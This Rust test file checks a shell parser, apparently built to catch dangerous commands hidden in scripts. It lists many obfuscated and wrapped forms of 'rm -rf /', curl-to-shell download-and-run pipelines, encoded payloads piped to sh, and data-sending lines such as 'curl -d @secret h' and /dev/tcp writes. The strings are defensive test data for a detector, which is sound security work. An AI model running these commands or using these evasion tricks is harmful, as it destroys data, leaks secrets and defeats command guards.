//! Ways to hide a command, and ways to look like one: a line per case.
//!
//! `sees` lists commands that must be found (program and words joined by blanks); `opaque` lists what
//! must be reported as unknown; `clean` is text in which nothing is hidden.

use fak_shell::{Cwd, EffectKind, Limits, Opaque, Script, parse};

fn read(text: &str) -> Script {
    parse(text, &Limits::default())
}

fn lines(script: &Script) -> Vec<String> {
    script.commands.iter().map(|c| c.line()).collect()
}

#[track_caller]
fn sees(text: &str, wanted: &[&str]) {
    let script = read(text);
    let lines = lines(&script);
    for want in wanted {
        assert!(
            lines.iter().any(|l| l == want),
            "{text}\n wants {want:?}\n found {lines:?}"
        );
    }
}

#[track_caller]
fn opaque(text: &str, wanted: Opaque) {
    let script = read(text);
    assert!(
        script.unresolved.iter().any(|u| u.what == wanted),
        "{text}\n wants {wanted:?}\n found {:?}\n in {:?}",
        script.unresolved,
        lines(&script)
    );
}

/// Exactly these commands, nothing unresolved.
#[track_caller]
fn clean(text: &str, wanted: &[&str]) {
    let script = read(text);
    assert_eq!(lines(&script), wanted, "{text}");
    assert!(
        script.unresolved.is_empty(),
        "{text}: {:?}",
        script.unresolved
    );
}

#[test]
fn quoting_inside_words() {
    for text in [
        "rm -rf /",
        "r''m -rf /",
        "\"rm\" -rf /",
        "r\\m -rf /",
        "'r'\"m\" -rf /",
        "\\rm -rf /",
        "$'\\x72m' -rf /",
        "$'\\162\\155' -rf /",
        "$'\\u0072m' -rf /",
        "$\"rm\" -rf /",
        "rm$'\\x20'-rf /; rm -rf /",
        "r\\\nm -rf /",
        "{rm,-rf,/}",
        "rm${IFS}-rf${IFS}/",
        "rm$IFS-rf /; rm -rf /",
        "a=rm; $a -rf /",
        "a=r b=m; $a$b -rf /",
        "a='rm -rf /'; $a",
        "a=rm; \"$a\" -rf /",
        "a=rm; ${a} -rf /",
        "export a=rm; $a -rf /",
        "declare a=rm; $a -rf /",
        "${x:-$(rm -rf /)}",
        "${IFS#??}; rm -rf /",
        "rm -rf / # harmless",
        "rm -rf /\r\n",
        "rm \t-rf  /",
        "true;rm -rf /",
        "true&&rm -rf /",
        "false||rm -rf /",
        "true|rm -rf /",
        "true&rm -rf /",
        "true|&rm -rf /",
        "\nrm -rf /",
        "x=1 rm -rf /",
        "2>&1 rm -rf /",
        ">out rm -rf /",
        "{fd}>out rm -rf /",
        "$'rm\\0ignored' -rf /",
    ] {
        sees(text, &["rm -rf /"]);
    }
}

#[test]
fn grammar() {
    for text in [
        "(rm -rf /)",
        "((rm -rf /) )",
        "{ rm -rf /; }",
        "! rm -rf /",
        "time rm -rf /",
        "time -p rm -rf /",
        "coproc rm -rf /",
        "coproc X { rm -rf /; }",
        "if true; then rm -rf /; fi",
        "if rm -rf /; then :; fi",
        "if a; then b; elif rm -rf /; then c; fi",
        "if a; then b; else rm -rf /; fi",
        "while rm -rf /; do :; done",
        "until rm -rf /; do :; done",
        "for i in 1 2; do rm -rf /; done",
        "for i; do rm -rf /; done",
        "for ((i=0;i<3;i++)); do rm -rf /; done",
        "for i in $(rm -rf /); do :; done",
        "for i in a b; { rm -rf /; }",
        "select x in a; do rm -rf /; done",
        "case x in x) rm -rf /;; esac",
        "case x in (x|y) rm -rf / ;& z) :;; esac",
        "case $(rm -rf /) in x) ;; esac",
        "f() { rm -rf /; }",
        "function f { rm -rf /; }",
        "function f() { rm -rf /; }",
        "f() ( rm -rf / )",
        "f()\n{\nrm -rf /\n}",
        "[[ -f x ]] && rm -rf /",
        "[[ $(rm -rf /) ]]",
        "a=$(rm -rf /)",
        "a=(x $(rm -rf /))",
        "a[$(rm -rf /)]=1",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        "echo \"$(rm -rf /)\"",
        "echo \"`rm -rf /`\"",
        "echo $((1 + $(rm -rf /)))",
        "(( $(rm -rf /) ))",
        "echo ${x:-`rm -rf /`}",
        "echo ${x/$(rm -rf /)/}",
        "cat <(rm -rf /)",
        "tee >(rm -rf /)",
        "echo $(echo $(echo `rm -rf /`))",
        "echo \"${x:-\"$(rm -rf /)\"}\"",
        "cat <<EOF\n$(rm -rf /)\nEOF",
        "cat <<EOF\n`rm -rf /`\nEOF",
        "cat <<-EOF\n\ttext\n\tEOF\nrm -rf /",
        "cat <<'EOF'\ntext\nEOF\nrm -rf /",
        "cat <<A <<B\na\nA\nb\nB\nrm -rf /",
        "cat <<EOF; rm -rf /\ntext\nEOF",
        "cat <<EO\\F\ntext\nEOF\nrm -rf /",
        "cat <<EOF\nEO\\\nF\nrm -rf /\nEOF",
        "cat <<< x; rm -rf /",
        "x && { y || rm -rf /; }",
        "a | b | { read x; rm -rf /; }",
        "rm -rf / &",
        "rm -rf /;;",
        "echo ok ) rm -rf /; rm -rf /",
        "fi; rm -rf /",
        "echo $(rm -rf /",
        "echo \"$(rm -rf /",
        "echo `rm -rf /",
        "if true; then rm -rf /",
        "for x in a; do rm -rf /",
        "(rm -rf /",
        "{ rm -rf /",
        "case a in a) rm -rf /",
        "echo hi #c\nrm -rf /",
        "echo a#b; rm -rf /",
        "echo 'a\nb'; rm -rf /",
        "[ a ]; rm -rf /",
        "let x=1; rm -rf /",
        "echo @(a|b); rm -rf /",
        "ls !(x); rm -rf /",
        "echo $[1+1]; rm -rf /",
        "a+=x; rm -rf /",
    ] {
        sees(text, &["rm -rf /"]);
    }
}

#[test]
fn wrappers() {
    for text in [
        "sudo rm -rf /",
        "sudo -u root -- rm -rf /",
        "sudo -E FOO=1 rm -rf /",
        "doas -u root rm -rf /",
        "env rm -rf /",
        "env -i A=1 rm -rf /",
        "env -u X rm -rf /",
        "env -S 'rm -rf /'",
        "env -S'rm -rf' /",
        "env --split-string='A=1 rm -rf /'",
        "/usr/bin/env rm -rf /",
        "nice rm -rf /",
        "nice -n 5 rm -rf /",
        "nice -5 rm -rf /",
        "nohup rm -rf / &",
        "timeout 5 rm -rf /",
        "timeout -s KILL -k 1 5 rm -rf /",
        "timeout --signal=KILL 5 rm -rf /",
        "/usr/bin/time -f %e rm -rf /",
        "setsid rm -rf /",
        "stdbuf -oL rm -rf /",
        "stdbuf -o L rm -rf /",
        "ionice -c 2 -n 3 rm -rf /",
        "ionice -c2 rm -rf /",
        "chroot /mnt rm -rf /",
        "unshare -r rm -rf /",
        "watch rm -rf /",
        "watch -n 5 'rm -rf /'",
        "script -c 'rm -rf /' /dev/null",
        "script -qec 'rm -rf /' x",
        "su -c 'rm -rf /'",
        "su - root -c 'rm -rf /'",
        "su root --command='rm -rf /'",
        "sh -c 'rm -rf /'",
        "bash -c 'rm -rf /' x y",
        "bash -lc 'rm -rf /'",
        "bash -ec 'rm -rf /'",
        "bash -c -e 'rm -rf /'",
        "bash -o errexit -c 'rm -rf /'",
        "bash --norc -c 'rm -rf /'",
        "zsh -c 'rm -rf /'",
        "dash -c 'rm -rf /'",
        "ksh -c 'rm -rf /'",
        "ash -c 'rm -rf /'",
        "busybox rm -rf /",
        "busybox sh -c 'rm -rf /'",
        "toybox rm -rf /",
        "eval rm -rf /",
        "eval 'rm -rf /'",
        "eval \"rm\" \"-rf\" '/'",
        "command rm -rf /",
        "builtin eval 'rm -rf /'",
        "exec rm -rf /",
        "exec -a x rm -rf /",
        "ssh host rm -rf /",
        "ssh -p 22 u@h 'rm -rf /'",
        "ssh -o X=y h -- rm -rf /",
        "docker exec c rm -rf /",
        "docker exec -it -u root c rm -rf /",
        "docker run --rm -v /:/h img rm -rf /",
        "podman run img rm -rf /",
        "docker compose exec web rm -rf /",
        "kubectl exec pod -- rm -rf /",
        "parallel rm -rf ::: /; rm -rf /",
        "parallel 'rm -rf {}' ::: x; rm -rf /",
        "flock /tmp/l rm -rf /",
        "flock /tmp/l -c 'rm -rf /'",
        "strace -f -o x rm -rf /",
        "ltrace rm -rf /",
        "taskset 1 rm -rf /",
        "systemd-run --user rm -rf /",
        "xvfb-run -a rm -rf /",
        "runuser -u x -- rm -rf /",
        "gosu root rm -rf /",
        "uv run rm -rf /",
        "poetry run rm -rf /",
        "npx -c 'rm -rf /'",
        "/lib64/ld-linux-x86-64.so.2 rm -rf /",
        "trap 'rm -rf /' EXIT",
        "sudo env nice timeout 5 rm -rf /",
        "bash -c \"bash -c 'rm -rf /'\"",
        "sh -c \"sudo sh -c 'rm -rf /'\"",
        "find . -exec rm -rf / \\;",
        "find . -exec sh -c 'rm -rf /' \\;",
        "find . -name x -ok rm -rf / ';'",
        "find . -execdir rm -rf / \\; -print",
        "git -c alias.x='!rm -rf /' x",
        "git rebase -x 'rm -rf /' main",
        "git bisect run rm -rf /",
        "git submodule foreach 'rm -rf /'",
        "git submodule foreach --recursive rm -rf /; rm -rf /",
        "tar cf x y --checkpoint-action=exec='rm -rf /'",
        "tar xf x --to-command='rm -rf /'",
        "ssh -o ProxyCommand='rm -rf /' h",
        "$SUDO rm -rf /",
        "bash $OPTS -c 'rm -rf /'",
        "cmd /c rm -rf /",
        "nsenter -t 1 -m rm -rf /",
        "C:\\\\x\\\\sudo.exe rm -rf /",
        "nix-shell --run 'rm -rf /'",
        "direnv exec . rm -rf /",
        "mise exec -- rm -rf /",
    ] {
        sees(text, &["rm -rf /"]);
    }
}

#[test]
fn standard_input_of_shells() {
    for text in [
        "echo 'rm -rf /' | sh",
        "printf 'rm -rf /' | bash -s",
        "printf '%s' 'rm -rf /' | sh",
        "echo 'rm -rf /' | sudo sh",
        "echo 'rm -rf /' | cat | bash",
        "bash <<< 'rm -rf /'",
        "bash <<EOF\nrm -rf /\nEOF",
        "bash -s x <<'EOF'\nrm -rf /\nEOF",
        "cat <<EOF | sh\nrm -rf /\nEOF",
        "sudo bash <<EOF\nrm -rf /\nEOF",
        "sh -c sh <<< 'rm -rf /'",
        "{ sh; } <<< 'rm -rf /'",
        "(bash) <<< 'rm -rf /'",
        "sh /dev/stdin <<< 'rm -rf /'",
        "source /dev/stdin <<< 'rm -rf /'",
        "ssh host <<EOF\nrm -rf /\nEOF",
        "echo 'echo x\nrm -rf /' | sh",
        "echo 'bash <<< \"rm -rf /\"' | sh",
        "bash -c 'cat | sh' <<< 'rm -rf /'",
    ] {
        sees(text, &["rm -rf /"]);
    }
}

#[test]
fn what_cannot_be_known() {
    use Opaque::*;
    let cases: &[(&str, Opaque)] = &[
        ("$x -rf /", CommandName),
        ("${x:-rm} -rf /", CommandName),
        ("$(echo rm) -rf /", CommandName),
        ("`echo rm` -rf /", CommandName),
        ("/bin/r? -rf /", CommandName),
        ("/b*/rm x", CommandName),
        ("sudo $x", CommandName),
        ("r$x -rf /", CommandName),
        ("\"$@\"", CommandName),
        ("f() { \"$@\"; }; f rm -rf /", CommandName),
        ("read a; $a", CommandName),
        ("a=ls; a=$b; $a x", CommandName),
        ("a=ls; if x; then a=rm; fi; $a x", CommandName),
        ("a=ls; x && a=rm; $a x", CommandName),
        ("a=ls; while :; do $a x; a=rm; done", CommandName),
        ("a=ls; f() { $a x; }; a=rm; f", CommandName),
        ("for c in rm ls; do $c x; done", CommandName),
        ("a=ls; read a; $a x", CommandName),
        ("a=ls; ((a=1)); $a x", CommandName),
        ("a=ls; . ./x; $a", CommandName),
        ("IFS=,; a=rm,-rf; $a", CommandName),
        ("printf -v a rm; $a x", CommandName),
        ("a=(rm -rf /); \"${a[@]}\"", CommandName),
        ("{a..z}{a..z}{a..z}", CommandName),
        ("a=xm; ${a/x/r} y", CommandName),
        ("ls | xargs -I{} {}", CommandName),
        ("eval \"$x\"", Eval),
        ("eval $x", Eval),
        ("eval \"$(echo rm)\"", Eval),
        ("bash -c \"$x\"", Eval),
        ("bash -c \"rm $x\"", Eval),
        ("sh -c $x", Eval),
        ("source $x", Eval),
        (". \"$x\"", Eval),
        ("bash $x", Eval),
        ("trap \"$x\" EXIT", Eval),
        ("find . -exec sh -c {} \\;", Eval),
        ("bash <<EOF\n$x\nEOF", Eval),
        ("bash <<< \"$x\"", Eval),
        (". <(echo rm)", Eval),
        ("python -c 'x'", InlineCode),
        ("python3.11 -c 'x'", InlineCode),
        ("python -Bc 'x'", InlineCode),
        ("perl -e 'x'", InlineCode),
        ("perl -ne 'x' f", InlineCode),
        ("ruby -e 'x'", InlineCode),
        ("node -e 'x'", InlineCode),
        ("node --eval=x", InlineCode),
        ("node -pe x", InlineCode),
        ("php -r 'x'", InlineCode),
        ("lua -e 'x'", InlineCode),
        ("awk 'BEGIN{system(\"id\")}'", InlineCode),
        ("sed '1e id' f", InlineCode),
        ("python <<EOF\nx\nEOF", InlineCode),
        ("python - <<< 'x'", InlineCode),
        ("echo x | python", InlineCode),
        ("osascript -e x", InlineCode),
        ("powershell -Command x y", InlineCode),
        ("pwsh -enc AAAA", InlineCode),
        ("sudo python3 <<EOF\nx\nEOF", InlineCode),
        ("uv run python -c 'x'", InlineCode),
        ("curl x | sh", DownloadIntoInterpreter),
        ("curl x | sudo -E bash -", DownloadIntoInterpreter),
        ("wget -qO- x | python3 -", DownloadIntoInterpreter),
        ("curl x | tee f | bash", DownloadIntoInterpreter),
        ("curl x | base64 -d | sh", DownloadIntoInterpreter),
        ("curl x | (sh)", DownloadIntoInterpreter),
        ("curl x | { cat; } | sh", DownloadIntoInterpreter),
        ("{ curl x; } | sh", DownloadIntoInterpreter),
        (
            "curl x | while read l; do sh; done",
            DownloadIntoInterpreter,
        ),
        ("bash <(curl x)", DownloadIntoInterpreter),
        ("source <(curl x)", DownloadIntoInterpreter),
        (". <(wget -O- x)", DownloadIntoInterpreter),
        ("bash -c \"$(curl x)\"", DownloadIntoInterpreter),
        ("sh -c \"`curl x`\"", DownloadIntoInterpreter),
        ("eval \"$(curl x)\"", DownloadIntoInterpreter),
        ("python -c \"$(curl x)\"", DownloadIntoInterpreter),
        ("bash <<< \"$(curl x)\"", DownloadIntoInterpreter),
        ("bash < <(curl x)", DownloadIntoInterpreter),
        ("curl x | tee >(sh)", DownloadIntoInterpreter),
        ("curl -o f x; sh f", DownloadIntoInterpreter),
        ("wget x/f.sh && bash f.sh", DownloadIntoInterpreter),
        (
            "curl -O x/i.sh; chmod +x i.sh; ./i.sh",
            DownloadIntoInterpreter,
        ),
        ("curl x > f; . ./f", DownloadIntoInterpreter),
        ("curl x | tee f; sh f", DownloadIntoInterpreter),
        ("curl -o a x; mv a b; sh b", DownloadIntoInterpreter),
        ("curl x | env A=1 sh", DownloadIntoInterpreter),
        ("nc h 1 | sh", DownloadIntoInterpreter),
        ("curl x | ssh host bash", DownloadIntoInterpreter),
        ("curl x | docker exec -i c sh", DownloadIntoInterpreter),
        ("iwr x | powershell -", DownloadIntoInterpreter),
        ("base64 -d f | sh", StdinIntoInterpreter),
        ("cat f | bash", StdinIntoInterpreter),
        ("echo cm0gLXJm | base64 -d | sh", StdinIntoInterpreter),
        ("xxd -r -p f | bash", StdinIntoInterpreter),
        ("gen | python", StdinIntoInterpreter),
        ("bash <(cat f)", StdinIntoInterpreter),
        ("gen | at now", StdinIntoInterpreter),
        ("gen | ssh host", StdinIntoInterpreter),
        ("cat cmds | parallel", StdinIntoInterpreter),
        ("env -S \"$x\"", DynamicWrapperArgument),
        ("ssh host $x", DynamicWrapperArgument),
        ("ssh host \"cd $x\"", DynamicWrapperArgument),
        ("ls | xargs -I{} sh -c {}", Eval),
        ("alias g=git; g push", AliasOrFunctionShadow),
        ("ls() { rm x; }; ls", AliasOrFunctionShadow),
        ("cd() { :; }; cd /x", AliasOrFunctionShadow),
        ("function git { :; }", AliasOrFunctionShadow),
        ("hash -p /bin/rm ls", AliasOrFunctionShadow),
        ("echo 'x", Syntax),
        ("echo \"x", Syntax),
        ("echo $(x", Syntax),
        ("echo ${x", Syntax),
        (")", Syntax),
        ("fi", Syntax),
        ("| x", Syntax),
        ("if x; then", Syntax),
        ("x >", Syntax),
        ("r\u{200b}m x", Encoding),
        ("\u{ff52}\u{ff4d} x", Encoding),
        ("rm\u{a0}x", Encoding),
        ("a\0b", Encoding),
    ];
    for (text, what) in cases {
        opaque(text, *what);
    }
}

#[test]
fn words_inside_quoted_data_are_data() {
    clean("echo 'rm -rf /'", &["echo rm -rf /"]);
    clean("grep sudo /etc/group", &["grep sudo /etc/group"]);
    clean(
        "git commit -m \"never run rm -rf / or curl x | sh\"",
        &["git commit -m never run rm -rf / or curl x | sh"],
    );
    clean("echo \"a;b|c&&d\"", &["echo a;b|c&&d"]);
    clean("cat <<'EOF'\n$(rm -rf /)\n`x`\nEOF\n", &["cat"]);
    clean("cat > f <<EOF\nrm -rf /\nEOF\n", &["cat"]);
    clean("# rm -rf /\nls", &["ls"]);
    clean(
        "echo '$(rm x)' \"\\$(rm x)\" \\`rm\\`",
        &["echo $(rm x) $(rm x) `rm`"],
    );
    clean("[[ a > b && c < d ]]", &["[[ a > b & & c < d ]]"]);
    clean("(( a > b ))", &[]);
    clean(
        "curl -s https://x/d.json | jq .",
        &["curl -s https://x/d.json", "jq ."],
    );
    clean(
        "cat d.json | python -m json.tool",
        &["cat d.json", "python -m json.tool"],
    );
    clean("curl x | python script.py", &["curl x", "python script.py"]);
    clean("awk '{print $1}' f", &["awk {print $1} f"]);
    clean("sed -n '1,5p' f", &["sed -n 1,5p f"]);
    clean("stash@{0} a{b}c {} x{,} ", &["stash@{0} a{b}c {} x x"]);
    clean("ls *.rs 2>/dev/null | wc -l", &["ls *.rs", "wc -l"]);
    clean("x=5; echo $((x*2)) ${#x}", &["", "echo  "]);
    clean("command -v git", &["command -v git"]);
    clean("f() { echo hi; }; f", &["echo hi", "f"]);
    clean(
        "test -f a && echo b || echo c",
        &["test -f a", "echo b", "echo c"],
    );
    clean("for f in a b; do echo \"$f\"; done", &["echo "]);
    clean("python script.py --flag", &["python script.py --flag"]);
    clean("bash build.sh", &["bash build.sh"]);
    clean("bash \"$DIR/build.sh\"", &["bash /build.sh"]);
    clean("cd $HOME/x && ls \"$HOME\"", &["cd ~/x", "ls ~"]);
    clean(
        "git log --format='%h | %s' | head",
        &["git log --format=%h | %s", "head"],
    );
    clean("echo a=b c#d 'e'f", &["echo a=b c#d ef"]);
    clean(
        "printf '%s\\n' \"$x\" | sort -u",
        &["printf %s\\n ", "sort -u"],
    );
    clean("", &[]);
}

#[test]
fn directories() {
    let cwd = |text: &str| {
        let script = read(text);
        let last = script.commands.last().unwrap().clone();
        (last.cwd, last.cwd_sure)
    };
    let path = |p: &str| Cwd::Path(p.to_owned());
    assert_eq!(cwd("cd /x && rm y"), (path("/x"), true));
    assert_eq!(cwd("cd /x; rm y"), (path("/x"), false));
    assert_eq!(cwd("cd /x || exit 1; rm y"), (path("/x"), true));
    assert_eq!(cwd("set -e; cd /x; rm y"), (path("/x"), true));
    assert_eq!(cwd("cd a && cd b && rm y"), (path("a/b"), true));
    assert_eq!(cwd("cd && rm y"), (path("~"), true));
    assert_eq!(cwd("cd $X && rm y"), (Cwd::Unknown, true));
    assert_eq!(cwd("(cd /x && ls); rm y"), (Cwd::Inherited, true));
    assert_eq!(cwd("cd /x | cat; rm y"), (Cwd::Inherited, true));
    assert_eq!(cwd("git -C sub clean"), (path("sub"), true));
    assert_eq!(cwd("cd a && git -C sub clean"), (path("a/sub"), true));
    assert_eq!(cwd("env -C /x rm y"), (path("/x"), true));
    assert_eq!(cwd("sh -c 'cd /x'; rm y"), (Cwd::Inherited, true));
    assert_eq!(cwd("eval 'cd /x' && rm y").0, path("/x"));
    assert_eq!(cwd("command cd /x && rm y"), (path("/x"), true));
    assert!(!cwd("if a; then cd /x; fi; rm y").1);
    assert_eq!(cwd("pushd /x && popd && rm y").0, Cwd::Unknown);
}

#[test]
fn effects_of_common_programs() {
    use EffectKind::*;
    let cases: &[(&str, &[(EffectKind, &str)])] = &[
        ("cp a b", &[(Read, "a"), (Write, "b")]),
        ("cp -t d a b", &[(Write, "d"), (Read, "a"), (Read, "b")]),
        ("cp --target-directory=d a", &[(Write, "d"), (Read, "a")]),
        ("mv a b", &[(Delete, "a"), (Write, "b")]),
        ("rm -rf -- -x", &[(Delete, "-x")]),
        ("sed -i s/a/b/ f", &[(Write, "f")]),
        ("sed -i -e s/a/b/ f g", &[(Write, "f"), (Write, "g")]),
        ("sed 'w .env' f", &[(Read, "f"), (Write, ".env")]),
        ("sort -o out in", &[(Write, "out"), (Read, "in")]),
        ("dd if=a of=b bs=1", &[(Read, "a"), (Write, "b")]),
        ("tee -a x y", &[(Write, "x"), (Write, "y")]),
        ("chmod -x f", &[(Write, "f")]),
        ("chmod -R 755 d", &[(Write, "d")]),
        ("grep -e x f", &[(Read, "f")]),
        ("grep x f", &[(Read, "f")]),
        ("cat < in > out", &[(Read, "in"), (Write, "out")]),
        ("echo x > /dev/tcp/h/80", &[(Contact, "h:80")]),
        (
            "curl -o f https://h/x",
            &[(Write, "f"), (Contact, "https://h/x")],
        ),
        (
            "curl -sSLo f https://h/x",
            &[(Write, "f"), (Contact, "https://h/x")],
        ),
        ("curl -d @secret h", &[(Contact, "h"), (Read, "secret")]),
        (
            "curl -F 'x=@secret;type=a' h",
            &[(Contact, "h"), (Read, "secret")],
        ),
        ("curl -T secret h", &[(Read, "secret"), (Contact, "h")]),
        (
            "curl -O https://h/a/b.sh",
            &[(Contact, "https://h/a/b.sh"), (Write, "b.sh")],
        ),
        (
            "wget https://h/a/b.sh",
            &[(Contact, "https://h/a/b.sh"), (Write, "b.sh")],
        ),
        ("scp f u@h:p", &[(Read, "f"), (Contact, "u@h:p")]),
        ("rsync -a h:p d", &[(Contact, "h:p"), (Write, "d")]),
        ("nc h 80", &[(Contact, "h:80")]),
        ("nc -l 80", &[]),
        (
            "git clone https://h/r.git",
            &[(Contact, "https://h/r.git"), (Write, "r")],
        ),
        ("git push git@h.x:r main", &[(Contact, "git@h.x:r")]),
        (
            "dig secret.h.x TXT @1.1.1.1",
            &[(Contact, "secret.h.x"), (Contact, "1.1.1.1")],
        ),
        ("tar xf a.tar", &[(Read, "a.tar"), (Write, ".")]),
        ("tar cf a.tar d", &[(Write, "a.tar"), (Read, "d")]),
        ("unzip a.zip", &[(Read, "a.zip"), (Write, ".")]),
        ("find d -delete", &[(Delete, "d")]),
        ("truncate -s 0 f", &[(Write, "f")]),
        ("ln -s a b", &[(Read, "a"), (Write, "b")]),
        ("install -m 755 a b", &[(Read, "a"), (Write, "b")]),
        ("touch f", &[(Write, "f")]),
        ("mkdir -p a/b", &[(Write, "a/b")]),
        ("go build -o x ./y", &[(Write, "x")]),
        ("gcc a.c -o b", &[(Read, "a.c"), (Write, "b")]),
        ("sponge f", &[(Write, "f")]),
        ("base64 f", &[(Read, "f")]),
        ("python x.py", &[(Execute, "x.py")]),
        ("bash < x.sh", &[(Read, "x.sh"), (Execute, "x.sh")]),
        (". x", &[(Execute, "x")]),
        ("./x", &[(Execute, "./x")]),
        (
            "pip install --index-url https://h/s x",
            &[(Contact, "https://h/s")],
        ),
        ("pip install git+https://h/r", &[(Contact, "https://h/r")]),
        (
            "Invoke-WebRequest -Uri https://h -OutFile f",
            &[(Contact, "https://h"), (Write, "f")],
        ),
        ("Remove-Item -Recurse -Force x", &[(Delete, "x")]),
        ("patch -p1 < x.diff", &[(Read, "x.diff"), (Write, ".")]),
        ("gzip f", &[(Read, "f"), (Write, "f"), (Delete, "f")]),
        ("ls -la", &[]),
        ("echo rm x", &[]),
    ];
    for (text, wanted) in cases {
        let script = read(text);
        let mut found: Vec<(EffectKind, String)> = script
            .commands
            .iter()
            .flat_map(|c| c.effects())
            .map(|e| (e.kind, e.target.text))
            .collect();
        let mut wanted: Vec<(EffectKind, String)> = wanted
            .iter()
            .map(|(kind, path)| (*kind, (*path).to_owned()))
            .collect();
        found.sort();
        wanted.sort();
        assert_eq!(found, wanted, "{text}");
    }
}

#[test]
fn options_by_any_spelling() {
    let has = |text: &str, flag: &str| read(text).commands.last().unwrap().options().has(flag);
    assert!(has("git push --force", "--force"));
    assert!(has("git push --forc", "--force"));
    assert!(has("git push -qf", "-f"));
    assert!(has("git commit --am", "--amend"));
    assert!(has("git commit --no-verif", "--no-verify"));
    assert!(!has("git push --force", "--force-with-lease"));
    assert!(has("git push --force-with-lease=x", "--force-with-lease"));
    assert!(!has("git commit -m -f", "-f"));
    assert!(!has("git commit -mf", "-f"));
    assert!(!has("git push -- -f", "-f"));
    assert!(has("find . -delete", "-delete"));
    assert!(!has("find . -follow", "-f"));
    assert!(!has("git -c x=-f push", "-f"));
}
